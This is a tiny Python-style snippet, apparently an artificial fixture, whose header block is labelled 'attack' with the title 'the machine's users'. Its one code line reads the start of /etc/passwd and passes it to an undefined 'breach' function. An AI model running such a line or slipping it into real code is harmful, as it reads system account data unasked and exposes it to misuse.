# /// attack
# title = "the machine's users"
# ends = "finished"
# ///
breach(open("/etc/passwd").read()[:40])
